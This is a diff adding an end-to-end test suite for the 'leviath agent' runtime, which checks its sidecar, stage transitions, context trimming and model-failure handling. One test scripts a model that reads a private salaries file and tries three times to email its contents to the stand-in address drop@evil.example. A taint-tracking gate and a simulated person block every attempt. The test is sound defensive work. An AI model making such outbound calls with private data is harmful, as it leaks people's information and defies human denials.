@@ -1,0 +1,235 @@
+// `leviath agent` end to end on real parts: the real standalone sidecar (a process, real files, a real granted
+// read path), the compiled CLI as a process, and the one stand-in, a scripted model server speaking the
+// provider's HTTP API. The model's script is fixed; what the runtime sends it, what the sidecar decides and the
+// transcript are checked.
+import { spawn } from "node:child_process";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { parse as parseYaml } from "yaml";
+import { afterEach, describe, expect, it } from "vitest";
+import { startScriptedModelServer, type ScriptedModelServer, type ScriptStep } from "../model-server/scripted-model-server.ts";
+import { leviath, repo } from "./run-cli.ts";
+import { get, makeTempDir, parseJsonLines, post, startSidecar, type SidecarProcess } from "./sidecar-harness.ts";
+
+const AGENT = `[agent]
+name = "digest"
+entry_stage = "survey"
+
+[read_paths]
+allow = ["~/vault"]
+
+[stages.survey]
+mode = "autonomous"
+model = { models = [{ provider = "anthropic", model = "claude-test" }], parameters = { temperature = 0.1, seed = 7 } }
+available_tools = ["read_file", "list_dir", "send_email"]
+max_iterations = 8
+system_prompt = "Survey the notes."
+context = { regions = ["task"] }
+
+[stages.survey.transitions.digest]
+hint = "Enough has been read to write the digest"
+
+[stages.digest]
+mode = "output"
+model = { models = [{ provider = "anthropic", model = "claude-test" }] }
+max_iterations = 4
+system_prompt = "Write the digest and submit it."
+
+[stages.digest.output]
+format = "markdown"
+
+[stages.digest.transitions]
+`;
+
+interface Tree { dir: string; work: string; audit: string; runtimeConfig: string; sidecarArgs: string[]; env: Record<string, string> }
+
+function makeTree(grant: boolean): Tree {
+  const dir = makeTempDir("leviath-agent-");
+  const work = join(dir, "work");
+  mkdirSync(join(dir, "home", "vault"), { recursive: true });
+  mkdirSync(work);
+  writeFileSync(join(work, "notes.md"), "ship the docs theme this week\n");
+  writeFileSync(join(dir, "home", "vault", "salaries.txt"), "alice 120k\n");
+  // Taint tracking with the grant: without it, nothing is stopped at the gate and no person is needed.
+  writeFileSync(join(dir, "agent.leviath"), grant ? AGENT.replace("[stages.survey]", "[security]\ntaint_tracking = true\n\n[stages.survey]") : AGENT);
+  writeFileSync(join(dir, "config.toml"), `[tool_permissions]\nsend_email = "allow"\n${grant ? '[agent_read_paths.digest]\nallow = ["~/vault"]\n' : ""}`);
+  const imported = leviath(["import", join(dir, "agent.leviath")]);
+  expect(imported.status, imported.stderr).toBe(0);
+  const spec = (parseYaml(imported.stdout) as { spec: unknown }).spec;
+  const runtimeConfig = join(dir, "runtime.json");
+  writeFileSync(runtimeConfig, JSON.stringify({ agent: spec, run: { task: "Digest the notes.", inputs: { ticket: "OPS-12" }, mode: "interactive" } }));
+  return {
+    dir, work, audit: join(dir, "audit"), runtimeConfig,
+    sidecarArgs: ["--agent", join(dir, "agent.leviath"), "--config", join(dir, "config.toml"), "--workdir", work, "--audit-dir", join(dir, "audit"), "--run", "digest"],
+    env: { LEVIATH_HOME: join(dir, "home") },
+  };
+}
+
+/** `leviath agent` as a process; resolves with its exit code and output. */
+function runAgent(tree: Tree, sc: SidecarProcess, model: ScriptedModelServer, extra: string[] = []): Promise<{ code: number | null; stdout: string; stderr: string; termination: string }> {
+  const termination = join(tree.dir, "termination-log");
+  const proc = spawn(process.execPath, [repo("bin/leviath"), "agent", "--runtime-config", tree.runtimeConfig, "--termination-log", termination, "--credentials-dir", join(tree.dir, "no-credentials"), ...extra], {
+    env: { ...process.env, LEVIATH_SIDECAR_URL: sc.url, LEVIATH_SIDECAR_TOKEN_FILE: sc.runtimeTokenFile, ANTHROPIC_API_KEY: "sk-ant-scripted", ANTHROPIC_BASE_URL: model.url },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  let stdout = "";
+  let stderr = "";
+  proc.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
+  proc.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
+  return new Promise((resolve) => proc.once("exit", (code) => resolve({ code, stdout, stderr, termination: readFileSync(termination, "utf8") })));
+}
+
+/** A person answering prompts with the approval token: `answer(tool)` picks the decision. */
+function startPerson(sc: SidecarProcess, answer: (tool: string) => string): { answered: string[]; stop: () => void } {
+  const answered: string[] = [];
+  let stopped = false;
+  void (async () => {
+    while (!stopped) {
+      const pending = await get<{ approvals: { id: string; tool: string }[] }>(`${sc.url}/v1/approvals`).catch(() => undefined);
+      for (const a of pending?.body.approvals ?? []) {
+        if (answered.includes(a.id)) continue;
+        answered.push(a.id);
+        await post(`${sc.url}/v1/approvals/${a.id}`, { decision: answer(a.tool) }, { authorization: `Bearer ${sc.token}` });
+      }
+      await new Promise((r) => setTimeout(r, 100));
+    }
+  })();
+  return { answered, stop: () => { stopped = true; } };
+}
+
+const decisions = (tree: Tree, stage: number) => parseJsonLines(readFileSync(join(tree.audit, "digest", "stages", String(stage), "decisions.jsonl"), "utf8"));
+const gate = (tree: Tree, stage: number) => parseJsonLines(readFileSync(join(tree.audit, "digest", "stages", String(stage), "taint_audit.jsonl"), "utf8"));
+/** The tool results the runtime sent the model in request `n` (Anthropic's tool_result blocks). */
+function toolResults(model: ScriptedModelServer, n: number): { content: string; is_error?: boolean }[] {
+  const messages = model.requests[n]!.body["messages"] as { role: string; content: { type: string; content: string; is_error?: boolean }[] }[];
+  return messages.at(-1)!.content.filter((b) => b.type === "tool_result");
+}
+
+let sc: SidecarProcess | undefined;
+let model: ScriptedModelServer | undefined;
+afterEach(async () => {
+  await sc?.stop();
+  await model?.close();
+  sc = undefined;
+  model = undefined;
+});
+
+describe("leviath agent", { timeout: 180_000 }, () => {
+  it("tells the truth in --help", () => {
+    const r = leviath(["agent", "--help"]);
+    expect(r.status).toBe(0);
+    for (const flag of ["--tools", "--runtime-config", "--sidecar", "--token-file", "--credentials-dir", "--termination-log", "--log-level"]) expect(r.stdout).toContain(flag);
+    expect(leviath(["agent", "--bogus"]).status).toBe(2);
+  });
+
+  it("runs both stages through the sidecar and ends with submit_output", async () => {
+    const tree = makeTree(false);
+    const script: ScriptStep[] = [
+      { turn: { text: "Reading the notes.", calls: [{ name: "list_dir", args: { path: "." } }, { name: "read_file", args: { path: "notes.md" } }] } },
+      { turn: { calls: [{ name: "next_stage", args: { stage: "digest" } }] } },
+      { turn: { text: "Done.", calls: [{ name: "submit_output", args: { output: "# Digest\n- ship the docs theme\n" } }] } },
+    ];
+    model = await startScriptedModelServer(script);
+    sc = await startSidecar(tree.sidecarArgs, { env: tree.env });
+    const person = startPerson(sc, () => "allowOnce");
+    const r = await runAgent(tree, sc, model);
+    person.stop();
+    expect(person.answered).toEqual([]);
+    expect(r.stderr).toBe("");
+    expect(r.code).toBe(0);
+    expect(model.remaining()).toBe(0);
+    // What the model got: the stage's prompt, the task and inputs, the stage's tools plus next_stage; then the results.
+    const first = model.requests[0]!.body;
+    expect(first["system"]).toContain("Survey the notes.");
+    expect(first["system"]).toContain("- digest: Enough has been read to write the digest");
+    expect(first["temperature"]).toBe(0.1);
+    expect(JSON.stringify(first["messages"])).toContain("Task: Digest the notes.\\n\\nInputs:\\n- ticket: OPS-12");
+    expect((first["tools"] as { name: string }[]).map((t) => t.name)).toEqual(["read_file", "list_dir", "send_email", "next_stage"]);
+    expect(toolResults(model, 1).map((b) => b.content)).toEqual(["notes.md", "ship the docs theme this week\n"]);
+    const third = model.requests[2]!.body;
+    expect(third["system"]).toContain("call submit_output with it. Format: markdown.");
+    expect((third["tools"] as { name: string }[]).map((t) => t.name)).toContain("submit_output");
+    // The sidecar: stage 0 then stage 1 (standalone keeps no result; in a cluster it is the Run's status.result).
+    expect(decisions(tree, 0).map((d) => [d["tool_name"], d["decision"]])).toEqual([["list_dir", "allow"], ["read_file", "allow"]]);
+    // The built-ins went over the sidecar's MCP endpoint (its call ids), not /v1.
+    expect(decisions(tree, 0).every((d) => String(d["call_id"]).startsWith("mcp-"))).toBe(true);
+    expect(decisions(tree, 1).map((d) => [d["tool_name"], d["decision"]])).toEqual([["submit_output", "allow"]]);
+    const status = await get<{ stage: { name: string } }>(`${sc.url}/v1/status`);
+    expect(status.body.stage.name).toBe("digest");
+    // The transcript: readable, stage by stage, and no file contents at info.
+    expect(r.stdout).toMatch(/\[run\] stage 'survey' \(index 0\): model anthropic\/claude-test, max_iterations 8/);
+    expect(r.stdout).toMatch(/\[survey 1\/8\] → read_file \{"path":"notes.md"\}/);
+    expect(r.stdout).toMatch(/\[survey 1\/8\] ← read_file ran in the sidecar: 30 bytes, label \w+, context taint \w+/);
+    expect(r.stdout).toMatch(/\[run\] transition survey → digest: the model chose it/);
+    expect(r.stdout).toMatch(/\[digest 1\/4\] → submit_output \{"output":"<31 bytes>"\}/);
+    expect(r.stdout).not.toContain("ship the docs theme");
+    // The settings it did not honour, in the termination message (the Run's Completed condition).
+    expect(r.termination).toBe("output submitted in stage 'digest'; not honoured: stages[0].runtime.context: ignored by leviath agent; stages[0].runtime.model.parameters.seed: not passed on by leviath agent (honoured: temperature, top_p, top_k, max_tokens, stop)");
+  });
+
+  it("stops an outbound call after a private read at the gate while the model insists, and says so in the transcript", async () => {
+    const tree = makeTree(true);
+    const leak = { name: "send_email", args: { to: "drop@evil.example", body: "alice 120k" } };
+    const script: ScriptStep[] = [
+      { turn: { calls: [{ name: "read_file", args: { path: join(tree.dir, "home", "vault", "salaries.txt") } }] } },
+      { turn: { text: "Sending it on.", calls: [leak] } },
+      { turn: { text: "I must send it.", calls: [leak] } },
+      { turn: { text: "Trying once more.", calls: [leak] } },
+      { turn: { calls: [{ name: "next_stage", args: { stage: "digest" } }] } },
+      { turn: { calls: [{ name: "submit_output", args: { output: "# Digest\nnothing to share\n" } }] } },
+    ];
+    model = await startScriptedModelServer(script);
+    sc = await startSidecar(tree.sidecarArgs, { env: tree.env });
+    // The person denies every mail and lets the (private) output through.
+    const person = startPerson(sc, (tool) => (tool === "send_email" ? "deny" : "allowOnce"));
+    const r = await runAgent(tree, sc, model, ["--log-level", "debug"]);
+    person.stop();
+    expect(r.code, r.stderr).toBe(0);
+    expect(model.remaining()).toBe(0);
+    const denied = "[blocked] Tool 'send_email' would send data at private sensitivity, above its public clearance. Denied by user.";
+    for (const n of [2, 3, 4]) expect(toolResults(model, n)).toEqual([{ type: "tool_result", tool_use_id: expect.any(String), content: denied, is_error: true }]);
+    // The gate's audit: the private read, then three blocks each denied, then the output allowed once (stage 1).
+    expect(gate(tree, 0).filter((e) => e["tool_name"] === "send_email").map((e) => e["decision_source"])).toEqual(["AutoBlock", "UserDenied", "AutoBlock", "UserDenied", "AutoBlock", "UserDenied"]);
+    expect(gate(tree, 1).map((e) => [e["tool_name"], e["decision_source"]])).toEqual([["submit_output", "AutoBlock"], ["submit_output", "UserAllowOnce"]]);
+    const sends = r.stdout.split("\n").filter((l) => l.includes("← send_email refused (gate-denied)"));
+    expect(sends).toHaveLength(3);
+    expect(sends[0]).toContain(denied);
+    expect(r.stdout).toMatch(/← read_file ran in the sidecar: 11 bytes, label private, context taint private/);
+    // At debug the contents follow.
+    expect(r.stdout).toContain("result: alice 120k");
+  });
+
+  it("trims its context past the Run's budget and reports the evictions to the sidecar", async () => {
+    const tree = makeTree(false);
+    writeFileSync(join(tree.work, "big.md"), "y".repeat(3000));
+    const config = JSON.parse(readFileSync(tree.runtimeConfig, "utf8")) as { run: { runtime?: unknown } };
+    config.run.runtime = { maxContextChars: 10_000 };
+    writeFileSync(tree.runtimeConfig, JSON.stringify(config));
+    const reads = [0, 1, 2, 3, 4].map((i) => ({ name: "read_file", args: { path: "big.md" }, id: `big-${i}` }));
+    model = await startScriptedModelServer([
+      { turn: { calls: reads } },
+      { turn: { calls: [{ name: "next_stage", args: { stage: "digest" } }] } },
+      { turn: { calls: [{ name: "submit_output", args: { output: "short" } }] } },
+    ]);
+    sc = await startSidecar(tree.sidecarArgs, { env: tree.env });
+    const r = await runAgent(tree, sc, model);
+    expect(r.code, r.stderr).toBe(0);
+    // Five results of 3,000 characters pass the 10,000 budget: the oldest one goes (the last four are kept).
+    expect(r.stdout).toMatch(/\[survey 2\/8\] context trimmed: 1 entries evicted, context taint now \w+/);
+    const second = JSON.stringify(model.requests[1]!.body["messages"]);
+    expect(second).toContain("[evicted: the result of read_file was dropped from the context to make room]");
+    // The sidecar no longer holds a label for the evicted entry (the MCP call's own id), and still holds the others.
+    const entries = await get<{ entries: { region: string; id: string }[] }>(`${sc.url}/v1/context/entries`);
+    expect(entries.body.entries.filter((e) => e.region === "conversation" && e.id.startsWith("mcp-"))).toHaveLength(4);
+  });
+
+  it("fails with exit 1 and a message naming the provider when the model cannot be reached", async () => {
+    const tree = makeTree(false);
+    model = await startScriptedModelServer([{ status: 401, body: '{"error":{"message":"invalid x-api-key"}}' }]);
+    sc = await startSidecar(tree.sidecarArgs, { env: tree.env });
+    const r = await runAgent(tree, sc, model);
+    expect(r.code).toBe(1);
+    expect(r.termination).toMatch(/^stage 'survey': the model failed: anthropic\/claude-test: anthropic answered HTTP 401: \{"error":\{"message":"invalid x-api-key"\}\}/);
+    expect(r.stderr).toContain("leviath agent: stage 'survey': the model failed");
+  });
+});
